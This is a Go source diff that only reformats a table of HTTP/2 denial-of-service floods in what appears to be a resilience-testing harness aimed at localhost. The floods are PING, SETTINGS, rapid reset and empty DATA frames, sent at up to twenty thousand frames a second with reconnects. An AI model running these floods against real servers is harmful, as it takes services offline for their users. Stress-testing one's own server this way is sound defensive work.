@@ -53,24 +53,34 @@ var floods = []attack{
 			})
 		},
 	},
-	{name: "h2-pings", what: "a flood of HTTP/2 PING frames", tls: true, heavy: true, lasts: 5 * time.Second, run: frames(func(f *http2.Framer, _ uint32, _ []byte) error {
-		return f.WritePing(false, [8]byte{1})
-	})},
-	{name: "h2-settings", what: "a flood of HTTP/2 SETTINGS frames", tls: true, heavy: true, lasts: 5 * time.Second, run: frames(func(f *http2.Framer, _ uint32, _ []byte) error {
-		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
-	})},
-	{name: "h2-resets", what: "requests by HTTP/2 that are reset at once (rapid reset)", tls: true, heavy: true, lasts: 5 * time.Second, run: frames(func(f *http2.Framer, stream uint32, head []byte) error {
-		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true}); err != nil {
-			return err
-		}
-		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
-	})},
-	{name: "h2-empty", what: "a flood of empty HTTP/2 DATA frames", tls: true, heavy: true, lasts: 5 * time.Second, run: frames(func(f *http2.Framer, stream uint32, head []byte) error {
-		if stream == 1 {
-			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true})
-		}
-		return f.WriteData(1, false, nil)
-	})},
+	{
+		name: "h2-pings", what: "a flood of HTTP/2 PING frames", tls: true, heavy: true, lasts: 5 * time.Second,
+		run: frames(func(f *http2.Framer, _ uint32, _ []byte) error { return f.WritePing(false, [8]byte{1}) }),
+	},
+	{
+		name: "h2-settings", what: "a flood of HTTP/2 SETTINGS frames", tls: true, heavy: true, lasts: 5 * time.Second,
+		run: frames(func(f *http2.Framer, _ uint32, _ []byte) error {
+			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
+		}),
+	},
+	{
+		name: "h2-resets", what: "requests by HTTP/2 that are reset at once (rapid reset)", tls: true, heavy: true, lasts: 5 * time.Second,
+		run: frames(func(f *http2.Framer, stream uint32, head []byte) error {
+			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true}); err != nil {
+				return err
+			}
+			return f.WriteRSTStream(stream, http2.ErrCodeCancel)
+		}),
+	},
+	{
+		name: "h2-empty", what: "a flood of empty HTTP/2 DATA frames", tls: true, heavy: true, lasts: 5 * time.Second,
+		run: frames(func(f *http2.Framer, stream uint32, head []byte) error {
+			if stream == 1 {
+				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true})
+			}
+			return f.WriteData(1, false, nil)
+		}),
+	},
 }
 
 // frames floods HTTP/2 connections with what write writes, twenty thousand a second at most, and connects again where it is cut.
@@ -101,7 +111,9 @@ func (a *attacker) flood(ctx context.Context, write func(f *http2.Framer, stream
 		head.Reset()
 		e := hpack.NewEncoder(&head)
 		e.SetMaxDynamicTableSize(0)
-		for _, x := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", generate}, {"authorization", "Bearer " + a.key}} {
+		for _, x := range [][2]string{
+			{":method", "POST"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", generate}, {"authorization", "Bearer " + a.key},
+		} {
 			e.WriteField(hpack.HeaderField{Name: x[0], Value: x[1]})
 		}
 		if write(f, stream, head.Bytes()) != nil {
